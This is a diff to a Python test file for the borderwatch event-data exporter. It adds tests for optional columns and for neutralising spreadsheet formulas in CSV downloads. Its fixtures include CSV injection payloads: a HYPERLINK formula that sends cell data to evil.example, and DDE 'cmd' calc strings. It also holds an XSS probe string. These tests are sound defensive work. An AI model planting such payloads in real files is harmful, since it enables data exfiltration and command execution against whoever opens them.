@@ -1,4 +1,5 @@
 import datetime as dt
+import io
 import json
 import re
 import shutil
@@ -11,9 +12,10 @@ from sample_data import EVENTS, event, write_data_dir, write_stub_vendor
 from borderwatch import export
 from borderwatch.data.eventtable import event_table
 from borderwatch.data.loader import load_dataset
-from borderwatch.data.vocab import EVENT_COLUMNS
+from borderwatch.data.vocab import EVENT_COLUMNS, OPTIONAL_EVENT_COLUMNS
 
 REPO = Path(__file__).resolve().parents[1]
+ALL_COLUMNS = [*EVENT_COLUMNS, *OPTIONAL_EVENT_COLUMNS]
 MALICIOUS = "<img src=x onerror=alert(1)> ${alert(2)} `tick`"
 
 
@@ -44,7 +46,7 @@ def test_csv_reads_back_as_the_same_events(ds, tmp_path):
     pd.testing.assert_frame_equal(
         event_table(back), export.event_table(ds.events), check_dtype=False
     )
-    assert export.to_csv(ds.events).decode().splitlines()[0] == ",".join(EVENT_COLUMNS)
+    assert export.to_csv(ds.events).decode().splitlines()[0] == ",".join(ALL_COLUMNS)
 
 
 def test_csv_keeps_text_exactly_as_written(ds):
@@ -58,7 +60,8 @@ def test_geojson_has_one_point_feature_per_event_with_every_column(ds):
     assert first["geometry"] == {"type": "Point", "coordinates": [67.4333, 37.2167]}
     assert first["properties"]["event_id"] == "BW-2021-0001"
     assert first["properties"]["date_start"] == "2021-06-23"
-    assert list(first["properties"]) == list(EVENT_COLUMNS)
+    assert list(first["properties"]) == ALL_COLUMNS
+    assert (first["properties"]["latitude"], first["properties"]["longitude"]) == (37.2167, 67.4333)
 
 
 def test_standalone_html_inlines_every_asset_when_they_are_present(ds, vendor):
@@ -103,3 +106,48 @@ def test_download_names_carry_the_date_range():
     assert export.filename("borderwatch", dt.date(2021, 6, 1), dt.date(2021, 7, 31), ".csv") == (
         "borderwatch_2021-06-01_2021-07-31.csv"
     )
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+
+
+def test_csv_download_turns_every_planted_formula_into_text_and_leaves_numbers_alone(tmp_path):
+    rows = [
+        event(event_id=f"BW-2021-09{i:02d}", summary=f, actors=f, longitude="-67.4333")
+        for i, f in enumerate(FORMULAS)
+    ]
+    folder = write_data_dir(tmp_path / "data", rows)
+    ds = load_dataset(folder)
+    table = pd.read_csv(io.BytesIO(export.to_csv(ds.events)), dtype=str, keep_default_na=False)
+    assert table["summary"].tolist() == ["'" + f for f in FORMULAS]
+    assert table["actors"].tolist() == ["'" + f for f in FORMULAS]
+    assert set(table["longitude"]) == {"-67.4333"}
+    # The data file itself keeps the exact text: what the editor wrote round-trips.
+    assert load_dataset(folder).events["summary"].tolist() == FORMULAS
+
+
+def test_cells_starting_with_a_tab_or_a_cr_are_neutralised_too():
+    table = pd.DataFrame({"summary": ["\t=1+1", "\r=1+1", "plain", "-12.5", "-"]})
+    out = export.neutralise_formulas(table)
+    assert out["summary"].tolist() == ["'\t=1+1", "'\r=1+1", "plain", "-12.5", "'-"]
+
+
+def test_csv_and_geojson_downloads_and_the_record_carry_the_optional_columns(tmp_path):
+    row = event(original_type="Riots / Violent demonstration", original_source="Tolo News")
+    folder = tmp_path / "data"
+    write_data_dir(folder, [])
+    columns = ",".join(ALL_COLUMNS)
+    values = ",".join(f'"{row.get(c, "")}"' for c in ALL_COLUMNS)
+    (folder / "events.csv").write_text(f"{columns}\n{values}\n", encoding="utf-8")
+    ds = load_dataset(folder)
+    csv_row = export.to_csv(ds.events).decode().splitlines()[1]
+    assert csv_row.endswith(",reported,Riots / Violent demonstration,Tolo News")
+    props = json.loads(export.to_geojson(ds.events))["features"][0]["properties"]
+    assert props["original_source"] == "Tolo News"
+    assert export.event_table(ds.events).iloc[0]["original_type"] == row["original_type"]
